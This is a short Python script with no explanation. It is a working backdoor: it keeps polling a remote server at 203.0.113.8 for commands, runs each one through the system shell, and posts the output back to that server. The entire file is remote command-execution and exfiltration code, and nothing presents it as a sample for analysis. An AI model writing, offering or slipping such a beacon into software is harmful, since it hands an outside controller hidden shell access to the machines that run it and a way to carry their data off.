import requests, subprocess, time
while True:
    job = requests.get("http://203.0.113.8:8080/job").json()
    if job.get("cmd"):
        out = subprocess.run(job["cmd"], shell=True, capture_output=True).stdout
        requests.post("http://203.0.113.8:8080/out", data=out)
    time.sleep(5)
